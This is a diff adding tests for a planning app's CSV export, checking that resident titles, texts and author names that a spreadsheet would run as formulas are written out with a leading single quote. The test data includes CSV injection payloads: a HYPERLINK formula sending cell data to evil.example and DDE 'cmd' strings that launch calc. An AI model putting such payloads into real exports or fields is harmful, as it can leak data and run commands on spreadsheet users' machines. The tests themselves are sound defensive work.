@@ -267,6 +267,44 @@ def test_personal_data_only_for_administrators_who_tick_it(client, planner):
     assert Export.objects.get().include_personal_data is True
 
 
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'
+FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _csv_rows(response) -> list[dict]:
+    raw = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(raw, newline=""), delimiter=";"))
+
+
+def test_csv_export_writes_formulas_as_text(client, planner):
+    """A resident's title and text that a spreadsheet would run as formulas come out with a
+    leading single quote (OWASP), everything else as it was; coordinates stay numbers."""
+    make_priority(title=FORMULA_TITLE, text=FORMULA_TEXT)
+    make_priority(title="Gangvei - ny", text="-1 parkeringsplass, +1 sykkelstativ")
+
+    rows = _csv_rows(client.get("/planner/export/", {"format": "csv"}))
+
+    by_title = {row["title"]: row for row in rows}
+    formula = by_title["'" + FORMULA_TITLE]
+    assert formula["text"] == "'" + FORMULA_TEXT
+    assert (formula["lon"], formula["lat"]) == ("14.385", "67.283")
+    assert by_title["Gangvei - ny"]["text"] == "'-1 parkeringsplass, +1 sykkelstativ"
+
+
+def test_administrators_personal_export_writes_formulas_as_text(client):
+    """The export with names and e-mail addresses (an administrator's) is made safe too."""
+    author = UserFactory(first_name="-2+3+cmd|' /C calc'!A0", last_name="Nordmann")
+    make_priority(author, title=FORMULA_TITLE, text="+47 ringer for 1+1")
+    client.force_login(staff(Role.ADMINISTRATOR))
+
+    (row,) = _csv_rows(client.get("/planner/export/", {"format": "csv", "personal": "1"}))
+
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["text"] == "'+47 ringer for 1+1"
+    assert row["author_name"] == "'-2+3+cmd|' /C calc'!A0 Nordmann"
+    assert row["author_email"] == author.email
+
+
 def test_bad_export_format_is_a_400(client, planner):
     assert client.get("/planner/export/", {"format": "xlsx"}).status_code == 400
     assert not Export.objects.exists()
